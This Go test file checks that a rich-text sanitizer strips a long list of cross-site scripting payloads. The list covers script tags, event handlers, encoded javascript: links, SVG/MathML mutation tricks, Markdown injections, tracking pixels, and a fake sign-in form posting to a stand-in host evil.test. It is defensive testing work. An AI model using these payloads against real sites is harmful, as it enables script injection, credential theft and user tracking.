package richtext_test

import (
	"strings"
	"testing"

	"sportello/internal/richtext"
)

// attacks are written after the kinds that the public cheat sheets on cross-site scripting tell of.
var attacks = []string{
	// Scripts, in all the ways to write one.
	`<script>steal()</script>`,
	`<SCRIPT>steal()</ScRiPt>`,
	`<script src=//evil.test/x.js></script>`,
	`<script/src="https://evil.test/x.js"></script>`,
	`<script` + "\n" + `>steal()</script` + "\n" + `>`,
	`<scr<script>ipt>steal()</scr</script>ipt>`,
	`<<script>steal();//<</script>`,
	`<script>steal()`,
	`</script><script>steal()</script>`,
	`<script type="module">import "https://evil.test/x.js"</script>`,
	`<script>/*</script>*/steal()</script>`,
	"<script\x00>steal()</script>",
	"<\x00script>steal()</script>",
	`<ſcript>steal()</ſcript>`,
	"<script\u2028>steal()</script>",
	`%3Cscript%3Esteal()%3C/script%3E`,
	`&lt;script&gt;steal()&lt;/script&gt;`,
	`&#60;script&#62;steal()&#60;/script&#62;`,
	`<noscript><p title="</noscript><script>steal()</script>">`,
	`<textarea></textarea><script>steal()</script>`,
	`<title><a title="</title><script>steal()</script>"></title>`,
	`<xmp><a title="</xmp><script>steal()</script>"></xmp>`,
	`<plaintext><script>steal()</script>`,
	`<noembed><img title="</noembed><img src=x onerror=steal()>"></noembed>`,
	`<noframes><a title="</noframes><script>steal()</script>"></noframes>`,
	`<template><script>steal()</script></template>`,
	// Event handlers.
	`<img src=x onerror=steal()>`,
	`<img src=x onerror="steal()"`,
	`<img/src/onerror=steal()>`,
	`<img src="x` + "`" + `onerror=steal()">`,
	`<IMG """><SCRIPT>steal()</SCRIPT>">`,
	`<b onmouseover=steal()>x</b>`,
	`<b onmouseover = "steal()">x</b>`,
	"<b\tonclick\n=\nsteal()>x</b>",
	`<b/onclick=steal()>x</b>`,
	`<b x="y"onclick="steal()">x</b>`,
	`<p onpointerenter=steal() style=position:fixed;inset:0>x</p>`,
	`<body onload=steal()>`,
	`<details open ontoggle=steal()>x</details>`,
	`<marquee onstart=steal()>x</marquee>`,
	`<div onanimationstart=steal() style="animation:x">x</div>`,
	`<td background="javascript:steal()" onclick=steal()>x`,
	`<table background="https://evil.test/p.png"><tr><td>x</table>`,
	// Addresses that run.
	`<a href="javascript:steal()">x</a>`,
	`<a href=JaVaScRiPt:steal()>x</a>`,
	`<a href=" javascript:steal()">x</a>`,
	"<a href=\"java\tscript:steal()\">x</a>",
	"<a href=\"java\nscript:steal()\">x</a>",
	`<a href="java&#10;script:steal()">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:steal()">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;steal()">x</a>`,
	`<a href="&#0000106avascript:steal()">x</a>`,
	`<a href="javascript&colon;steal()">x</a>`,
	"<a href=\"\x01javascript:steal()\">x</a>",
	"<a href=\"java\x00script:steal()\">x</a>",
	`<a href="vbscript:steal()">x</a>`,
	`<a href="livescript:steal()">x</a>`,
	`<a href="data:text/html,<script>steal()</script>">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">x</a>`,
	`<a href="view-source:javascript:steal()">x</a>`,
	`<a href="feed:javascript:steal()">x</a>`,
	`<a href="blob:https://desk.test/x">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="ftp://evil.test/">x</a>`,
	`<a href="//evil.test/">x</a>`,
	`<a href="/sign-out">x</a>`,
	`<a href="#top" id=x name=y>x</a>`,
	`<a href="http://a.test/" href="javascript:steal()">x</a>`,
	`<a href="http://a.test/"onclick="steal()">x</a>`,
	`<a href='http://a.test/"onclick="steal()'>x</a>`,
	`<a href="https://a.test/" target=_top ping=https://evil.test/ rel=opener download>x</a>`,
	`<a href="http://a.test/%0d%0aSet-Cookie:x">x</a>`,
	`<a xlink:href="javascript:steal()">x</a>`,
	`<blockquote cite="javascript:steal()">x</blockquote>`,
	`<q cite="https://evil.test/">x</q>`,
	`<base href="https://evil.test/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.test/">`,
	`<link rel=stylesheet href=https://evil.test/x.css>`,
	// What loads, and tells that it was read.
	`<img src="https://evil.test/p.gif?who=1" width=1 height=1>`,
	`<img srcset="https://evil.test/p.gif 1x">`,
	`<img dynsrc="javascript:steal()" lowsrc="javascript:steal()">`,
	`<img alt="<script>steal()</script>" src=x>`,
	`<image src=x onerror=steal()>`,
	`<picture><source srcset=https://evil.test/p.gif></picture>`,
	`<video src=https://evil.test/v.mp4 poster=https://evil.test/p.gif autoplay onplay=steal()></video>`,
	`<audio src=x onerror=steal()></audio>`,
	`<video><source onerror=steal()></video>`,
	`<input type=image src=https://evil.test/p.gif onerror=steal()>`,
	`<bgsound src=https://evil.test/s.wav>`,
	`<embed src=https://evil.test/x.swf allowscriptaccess=always>`,
	`<object data="javascript:steal()" type="text/html"></object>`,
	`<object><param name=url value=javascript:steal()></object>`,
	`<applet code=x></applet>`,
	`<iframe src="javascript:steal()"></iframe>`,
	`<iframe srcdoc="<script>steal()</script>"></iframe>`,
	`<iframe src=https://evil.test/`,
	`<frameset onload=steal()><frame src=javascript:steal()></frameset>`,
	`<portal src=https://evil.test/></portal>`,
	// Styles, and what takes the page's place.
	`<style>@import "https://evil.test/x.css";</style>`,
	`<style>body{background:url(javascript:steal())}</style>`,
	`<style><b title="</style><script>steal()</script>"></style>`,
	`<p style="background:url(https://evil.test/p.gif)">x</p>`,
	`<p style="width:expression(steal())">x</p>`,
	`<p style="-moz-binding:url(https://evil.test/x.xml)">x</p>`,
	`<p class="modal overlay" id="app" data-action=x aria-label=y role=button tabindex=1 contenteditable>x</p>`,
	`<p hidden slot=x is=x-evil itemprop=x dir=rtl lang=x>x</p>`,
	`<form action=https://evil.test/><input name=password><button>Sign in</button></form>`,
	`<button formaction=javascript:steal()>x</button>`,
	`<isindex action=javascript:steal() type=submit>`,
	`<select><option>x</option></select>`,
	`<dialog open>x</dialog>`,
	`<x-evil onfocus=steal() tabindex=1 autofocus>x</x-evil>`,
	// Foreign content, where other rules hold.
	`<svg onload=steal()>`,
	`<svg><script>steal()</script></svg>`,
	`<svg><script href=data:,steal() />`,
	`<svg><a xlink:href="javascript:steal()"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=steal() attributeName=x></svg>`,
	`<svg><use href="https://evil.test/x.svg#x"/></svg>`,
	`<svg><foreignObject><iframe onload=steal()></foreignObject></svg>`,
	`<svg></p><style><a id="</style><img src=x onerror=steal()>">`,
	`<math><a xlink:href="javascript:steal()">x</a></math>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;">`,
	`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=steal()>"></style>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>`,
	// Comments, declarations, and markup that is cut off.
	`<!--<img src="--><img src=x onerror=steal()>">`,
	`<!--[if gte IE 4]><script>steal()</script><![endif]-->`,
	`<!--><script>steal()</script>-->`,
	`<!--x--!><script>steal()</script>`,
	`<![CDATA[<script>steal()</script>]]>`,
	`<!DOCTYPE html [<!ENTITY x "<script>steal()</script>">]>&x;`,
	`<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">steal()</html:script>`,
	`<?php steal() ?>`,
	`<% steal() %>`,
	`{{constructor.constructor('steal()')()}}`,
	`</<script>steal()</script>`,
	`<a href="http://a.test/`,
	`<b`,
	`<`,
	`<b title="`,
	`"><script>steal()</script>`,
	`' onclick=steal() x='`,
	"<b title=`<script>steal()</script>`>x</b>",
	"\xff<script>steal()</script>\xc0\xbcscript\xc0\xbe",
	"+ADw-script+AD4-steal()+ADw-/script+AD4-",
	`<html><head><script>steal()</script></head><body onload=steal()>x</body></html>`,
	// The same through Markdown.
	`[x](javascript:steal())`,
	`[x](JAVASCRIPT:steal())`,
	`[x](java&#115;cript:steal())`,
	`[x](<javascript:steal()>)`,
	`[x](data:text/html,<script>steal()</script>)`,
	"[x]: javascript:steal()\n\n[x]",
	`<javascript:steal()>`,
	`![x](javascript:steal())`,
	`![x"onerror="steal()](https://evil.test/p.gif)`,
	`![x](https://evil.test/p.gif "t"onerror="steal()")`,
	`[x](https://a.test/ "t" onclick="steal()")`,
	`[x](https://a.test/"onclick="steal())`,
	"[![x](https://evil.test/p.gif)](javascript:steal())",
	"```\n<script>steal()</script>\n```\n<script>steal()</script>",
	"`<script>`<script>steal()</script>",
	"> <script>\n\nsteal()</script>",
	"|<script>|\n|-|\n|steal()</script>|",
	"# <img src=x onerror=steal()>",
	"- <iframe src=javascript:steal()>",
	"<div>\n\n<script>steal()</script>\n\n</div>",
	"<https://a.test/\"onclick=\"steal()>",
	"https://a.test/<script>steal()</script>",
	"www.a.test/\"onclick=\"steal()",
}

// M4.10: nothing that runs, loads, tracks or imitates the page gets through.
func TestAttacks(t *testing.T) {
	r := richtext.New()
	if len(attacks) < 80 {
		t.Fatalf("%d attacks", len(attacks))
	}
	for _, attack := range attacks {
		for _, source := range []string{
			attack,
			"<table><tr><td>" + attack,
			"<pre>" + attack + "</pre>",
			"- a\n\n  " + attack,
			`<b title="` + attack + `">x</b>`,
			strings.ReplaceAll(attack, " ", "/"),
			strings.ToUpper(attack),
			attack + attack,
		} {
			if fault := check(r, source); fault != "" {
				t.Error(fault)
			}
		}
	}
}

// What a script or a style says is not the message's text either.
func TestScriptsAreNotText(t *testing.T) {
	r := richtext.New()
	for _, attack := range attacks[:3] {
		if got := r.Render(richtext.HTML, "prima"+attack+"dopo"); got.HTML != "primadopo" || got.Text != "primadopo" {
			t.Errorf("%s: %+v", attack, got)
		}
	}
}
